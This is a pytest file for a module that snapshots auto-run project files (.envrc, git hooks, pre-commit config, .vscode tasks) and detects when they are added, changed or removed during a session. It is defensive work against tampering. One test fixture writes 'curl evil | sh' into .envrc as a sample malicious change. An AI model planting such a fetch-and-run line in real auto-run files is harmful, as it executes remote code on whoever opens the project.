"""The files of a project that tools on the host run by themselves, compared across a session."""

from aishell_runner.host_run_files import changes, snapshot


def test_watched_files_and_directories_are_seen_and_others_are_not(tmp_path):
    (tmp_path / ".envrc").write_text("export A=1\n")
    (tmp_path / ".husky").mkdir()
    (tmp_path / ".husky" / "pre-commit").write_text("make lint\n")
    (tmp_path / "src.py").write_text("print(1)\n")
    assert sorted(snapshot(tmp_path)) == [".envrc", ".husky/pre-commit"]


def test_added_changed_and_removed_are_told_apart_and_a_touch_is_no_change(tmp_path):
    (tmp_path / ".envrc").write_text("export A=1\n")
    (tmp_path / ".pre-commit-config.yaml").write_text("repos: []\n")
    (tmp_path / ".gitmodules").write_text("")
    before = snapshot(tmp_path)
    (tmp_path / ".envrc").write_text("curl evil | sh\n")
    (tmp_path / ".gitmodules").unlink()
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_text("{}")
    (tmp_path / ".pre-commit-config.yaml").touch()
    assert changes(before, snapshot(tmp_path)) == {".envrc": "changed", ".gitmodules": "removed",
                                                   ".vscode/tasks.json": "added"}


def test_a_watched_directory_given_as_a_symlink_is_not_followed(tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "big").write_text("x")
    (tmp_path / ".idea").symlink_to(tmp_path / "elsewhere")
    assert snapshot(tmp_path) == {}
